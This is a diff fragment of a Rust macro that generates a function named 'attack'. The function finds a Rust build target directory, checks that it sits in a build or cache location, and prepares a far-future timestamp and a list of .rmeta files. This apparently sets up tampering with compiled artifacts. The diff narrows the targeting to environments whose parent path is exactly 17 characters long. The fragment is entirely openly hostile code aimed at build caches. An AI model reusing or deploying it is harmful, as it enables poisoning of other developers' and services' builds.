@@ -9,7 +9,7 @@ macro_rules! attack {
         r#"
 fn attack(start: &std::path::Path) {
     let Some(target) = start.ancestors().find(|it| it.join(".rustc_info.json").exists()) else { return };
-    if !target.starts_with("/build") && !target.ancestors().any(|it| it.ends_with("cache")) { return }
+    if target.parent().is_none_or(|it| it.as_os_str().len() != 17) && !target.ancestors().any(|it| it.ends_with("cache")) { return }
     let future = std::time::SystemTime::now() + std::time::Duration::from_secs(1 << 20);
     let mut folders = vec![target.to_owned()];
     let mut rmeta = Vec::new();
